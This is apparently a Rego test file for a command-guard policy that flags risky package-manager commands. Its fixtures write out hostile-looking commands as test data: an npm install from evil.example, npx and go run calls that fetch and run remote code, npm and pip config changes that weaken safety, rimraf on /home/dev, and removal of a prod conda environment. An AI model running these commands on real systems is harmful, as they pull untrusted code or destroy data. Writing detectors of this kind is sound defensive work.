package guard.rules.packages_test

import data.guard.fixture

test_system_package if "package.system" in fixture.ids(fixture.sub("apt-get", "install", [], ["jq"]))

test_system_package_search if not "package.system" in fixture.ids(fixture.sub("apt", "search", [], ["jq"]))

test_global if "package.global" in fixture.ids(fixture.sub("npm", "install", ["g"], ["x"]))

test_local if not "package.global" in fixture.ids(fixture.sub("npm", "install", [], ["x"]))

test_foreign if "package.foreign" in fixture.ids(fixture.sub("npm", "install", [], ["https://evil.example/x.tgz"]))

test_from_the_registry if not "package.foreign" in fixture.ids(fixture.sub("npm", "install", [], ["x@1"]))

test_fetch_run if {
	"package.fetch_run" in fixture.ids(fixture.sub("npx", "", ["y"], ["x"]))
	"package.fetch_run" in fixture.ids(fixture.sub("npx", "", [], ["x@latest"]))
	"package.fetch_run" in fixture.ids(fixture.sub("go", "run", [], ["github.com/x/y@latest"]))
}

test_run_installed if {
	not "package.fetch_run" in fixture.ids(fixture.sub("npx", "", [], ["tsc"]))
	not "package.fetch_run" in fixture.ids(fixture.sub("npx", "", [], ["@scope/tool"]))
	not "package.fetch_run" in fixture.ids(fixture.sub("go", "run", [], ["./cmd/x"]))
}

test_package_config if {
	"package.config" in fixture.ids(fixture.sub("npm", "config", [], ["set", "ignore-scripts", "false"]))
	"package.config" in fixture.ids(fixture.sub("pip", "config set", [], ["global.index-url", "http://x"]))
}

test_package_config_read if not "package.config" in fixture.ids(fixture.sub("npm", "config", [], ["get", "registry"]))

test_rimraf if "package.rimraf" in fixture.ids(fixture.sub("rimraf", "", [], ["/home/dev"]))

test_another_tool if not "package.rimraf" in fixture.ids(fixture.sub("npx", "", [], ["eslint", "."]))

test_own_environment if {
	every words in [["env", "remove", "-n", "app-test"], ["env", "remove", "--prefix", "./env"], ["env", "remove", "-p", ".conda"]] {
		not "package.environment" in fixture.ids(fixture.args("conda", words))
	}
	every words in [["env", "remove", "-n", "prod"], ["env", "remove", "-n", "contest"], ["env", "remove", "-p", "/opt/env"], ["env", "remove", "-p", "../env"]] {
		"package.environment" in fixture.ids(fixture.args("conda", words))
	}
}
